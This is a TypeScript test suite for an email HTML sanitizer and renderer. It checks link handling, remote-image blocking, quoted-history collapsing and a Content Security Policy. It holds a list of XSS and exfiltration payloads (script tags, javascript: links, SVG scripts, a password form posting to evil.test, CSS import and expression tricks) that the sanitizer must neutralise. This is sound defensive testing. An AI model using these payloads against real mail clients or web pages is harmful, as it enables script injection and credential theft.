import { describe, expect, it } from "vitest";
import { bodyContentSecurityPolicy, bodyDocument } from "./body-document.ts";
import { plainTextToHtml } from "./plain-text.ts";
import { parseEmail, type RenderOptions, renderEmail } from "./sanitize-html.ts";

const PIXEL = "data:image/png;base64,iVBORw0KGgo=";

function render(html: string, options: Partial<RenderOptions> = {}) {
  const parsed = parseEmail(html);
  const rendered = renderEmail(parsed, {
    remoteImages: false,
    showQuoted: false,
    inlineImage: (cid) => (cid === "logo@x" ? PIXEL : null),
    ...options,
  });
  return { ...rendered, cids: parsed.cids, document: bodyDocument(rendered) };
}

/** Payloads that would run script, navigate, submit or load something in a careless renderer. */
const HOSTILE: [string, string][] = [
  ["script element", `<script>top.document.title='pwned'</script>`],
  [
    "script in head",
    `<html><head><script src="https://evil.test/a.js"></script></head><body>x</body></html>`,
  ],
  ["event handler", `<img src="x" onerror="alert(1)"><p onclick="alert(1)" onmouseover="alert(1)">p</p>`],
  ["body onload", `<body onload="alert(1)">x</body>`],
  ["javascript: link", `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a>`],
  ["entity-encoded javascript:", `<a href="&#106;avascript:alert(1)">c</a>`],
  ["data: link", `<a href="data:text/html,<script>alert(1)</script>">d</a>`],
  ["vbscript: link", `<a href="vbscript:msgbox(1)">v</a>`],
  [
    "svg script",
    `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>`,
  ],
  ["svg onload", `<svg onload="alert(1)"></svg><math><mi xlink:href="javascript:alert(1)">m</mi></math>`],
  [
    "form",
    `<form action="https://evil.test/steal"><input name="password"><button formaction="https://evil.test">Go</button></form>`,
  ],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.test/">`],
  ["base", `<base href="https://evil.test/"><a href="page">rel</a>`],
  [
    "iframe and object",
    `<iframe src="https://evil.test"></iframe><object data="https://evil.test/x.swf"></object><embed src="https://evil.test/e">`,
  ],
  ["link stylesheet", `<link rel="stylesheet" href="https://evil.test/s.css">`],
  ["css import", `<style>@import url("https://evil.test/i.css"); @import 'https://evil.test/j.css';</style>`],
  ["css expression", `<div style="width: expression(alert(1))">e</div>`],
  [
    "css behavior",
    `<div style="behavior: url(https://evil.test/b.htc); -moz-binding: url(https://evil.test/x.xml#x)">b</div>`,
  ],
  ["css escaped url", `<div style="background: \\75 rl(https://evil.test/esc.png)">s</div>`],
  ["css image-set", `<div style="background-image: image-set('https://evil.test/set.png' 1x)">i</div>`],
  ["style breakout", `<style>p{} \\3c /style\\3e <img src=https://evil.test/out.png></style>`],
  ["template", `<template><img src=x onerror=alert(1)></template>`],
  ["ping", `<a href="https://ok.test/" ping="https://evil.test/ping">p</a>`],
];

describe("email sanitizer", () => {
  it.each(HOSTILE)("neutralizes %s", (_, html) => {
    const { document } = render(html);
    expect(document).not.toMatch(
      /<script|\son[a-z]+\s*=|javascript:|vbscript:|expression\(|@import|<svg|<math/i,
    );
    expect(document).not.toMatch(/<(form|input|button|meta http|base|iframe|object|embed|link|template)\b/i);
    expect(document).not.toMatch(/binding\s*:|behavior\s*:|image-set\(|ping=|data:text/i);
    // No remote address survives anywhere, in markup or CSS.
    expect(document).not.toContain("evil.test");
  });

  it("keeps https links, opening in a new tab without a referrer; drops relative ones", () => {
    const { body } = render(`<a href="https://shop.example/order/1042">Track</a> <a href="/account">rel</a>`);
    expect(body).toContain(
      `<a href="https://shop.example/order/1042" target="_blank" rel="noopener noreferrer">Track</a>`,
    );
    expect(body).toContain(` <a target="_blank" rel="noopener noreferrer">rel</a>`);
  });

  it("blocks remote images in img, srcset, background and CSS, and counts them once each", () => {
    const html = `<img src="https://t.example/open.gif" width="1" height="1">
      <img src="http://cdn.example/hero.jpg" srcset="https://cdn.example/hero@2x.jpg 2x">
      <table background="https://cdn.example/bg.png"><tr><td style="background:url('https://cdn.example/cell.png')">c</td></tr></table>
      <style>.x{background-image:url(https://t.example/open.gif)}</style>
      <img src="//cdn.example/proto.png">`;
    const blocked = render(html);
    expect(blocked.remoteImages).toBe(5);
    expect(blocked.document).not.toMatch(/example\//);
    expect(blocked.document).not.toContain("srcset");
    // Presentational attributes stay.
    expect(blocked.body).toContain(`<img width="1" height="1">`);

    const allowed = render(html, { remoteImages: true });
    expect(allowed.remoteImages).toBe(5);
    expect(allowed.body).toContain(`src="https://t.example/open.gif"`);
    // http: and protocol-relative images are asked for over https (the CSP allows nothing else).
    expect(allowed.body).toContain(`src="https://cdn.example/hero.jpg"`);
    expect(allowed.body).toContain(`src="https://cdn.example/proto.png"`);
    expect(allowed.body).toContain(`background="https://cdn.example/bg.png"`);
    expect(allowed.styles).toContain(`url("https://t.example/open.gif")`);
    expect(allowed.body).not.toContain("srcset");
  });

  it("inlines cid: images from the attachments and drops the ones it can't show", () => {
    const { body, cids, styles } = render(
      `<img src="cid:logo@x" alt="Logo"><img src="cid:missing@x" alt="gone"><style>.b{background:url(cid:LOGO@x)}</style>`,
    );
    expect(cids.sort()).toEqual(["logo@x", "missing@x"]);
    expect(body).toContain(`<img src="${PIXEL}" alt="Logo">`);
    expect(body).toContain(`<img alt="gone">`);
    expect(styles).toContain(`url("${PIXEL}")`);
  });

  it("keeps the email's own styles, made inert, in the head", () => {
    const { document } = render(
      `<html><head><style>p { color: #c00 }</style></head><body><p style="font-weight:bold">Hi</p></body></html>`,
    );
    expect(document).toMatch(/<head>.*<style>p \{ color: #c00 \}<\/style><\/head>/);
    expect(document).toContain(`<p style="font-weight:bold">Hi</p>`);
  });

  it("collapses Outlook, Gmail and Apple quoted history, and shows it when asked", () => {
    const outlook = `<div>Thanks, that works.</div><div id="appendonsend"></div><hr><div id="divRplyFwdMsg"><b>From:</b> Dana</div><div>Earlier mail <img src="https://t.example/q.png"></div>`;
    const hidden = render(outlook);
    expect(hidden.hasQuoted).toBe(true);
    expect(hidden.body).toBe("<div>Thanks, that works.</div>");
    expect(hidden.remoteImages).toBe(0);
    const shown = render(outlook, { showQuoted: true });
    expect(shown.hasQuoted).toBe(true);
    expect(shown.body).toContain("Earlier mail");

    const gmail = `<div dir="ltr">New text</div><br><div class="gmail_quote"><div>On Mon, Dana wrote:</div><blockquote class="gmail_quote">old</blockquote></div>`;
    expect(render(gmail).body).not.toContain("old");
    const desktop = `<div class="WordSection1"><p class="MsoNormal">Sure.</p><div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>From:</b> Dana</p></div></div><p class="MsoNormal">old</p></div>`;
    expect(render(desktop).body).toBe(
      `<div class="WordSection1"><p class="MsoNormal">Sure.</p><div></div></div>`,
    );
    const apple = `<div>Reply</div><blockquote type="cite">old</blockquote>`;
    expect(render(apple).body).toBe("<div>Reply</div>");
    // A quotation in the middle of the message is content, not history.
    const middle = `<p>He said:</p><blockquote>a quote</blockquote><p>and I agree.</p>`;
    expect(render(middle)).toMatchObject({ hasQuoted: false });
    // A bare forward (all quote) is shown whole.
    expect(render(`<div id="divRplyFwdMsg">From: x</div><div>fwd</div>`)).toMatchObject({ hasQuoted: false });
  });

  it("renders plain text escaped, with links, and its quoted tail collapsible", () => {
    const html = plainTextToHtml(
      "Hi <b>there</b> & see https://shop.example/o?id=1&x=2.\n\nOn Mon, 1 Dec 2026, Dana wrote:\n> old text",
    );
    const { body, hasQuoted } = render(html);
    expect(hasQuoted).toBe(true);
    expect(body).toContain("Hi &lt;b&gt;there&lt;/b&gt; &amp; see ");
    expect(body).toContain(
      `<a href="https://shop.example/o?id=1&amp;x=2" target="_blank" rel="noopener noreferrer">https://shop.example/o?id=1&amp;x=2</a>.`,
    );
    expect(body).not.toContain("old text");
    expect(render(html, { showQuoted: true }).body).toContain("&gt; old text");
  });

  it("serves a policy that runs nothing and loads remote images only when allowed", () => {
    expect(bodyContentSecurityPolicy(false)).toBe(
      "sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
    );
    expect(bodyContentSecurityPolicy(true)).toContain("img-src data: https:;");
  });

  it("says when there is nothing to show", () => {
    expect(render("<p> &nbsp; </p><script>x</script>").empty).toBe(true);
    expect(render('<img src="cid:logo@x">').empty).toBe(false);
    expect(render('<img src="https://t.example/x.png">').empty).toBe(true);
    expect(render("<p>Hi</p>").empty).toBe(false);
  });

  it("estimates a taller frame for a longer message", () => {
    const short = render("<p>Hi</p>").heightHint;
    const long = render(`<p>${"word ".repeat(2000)}</p>`).heightHint;
    expect(short).toBeLessThan(120);
    expect(long).toBeGreaterThan(1000);
  });
});
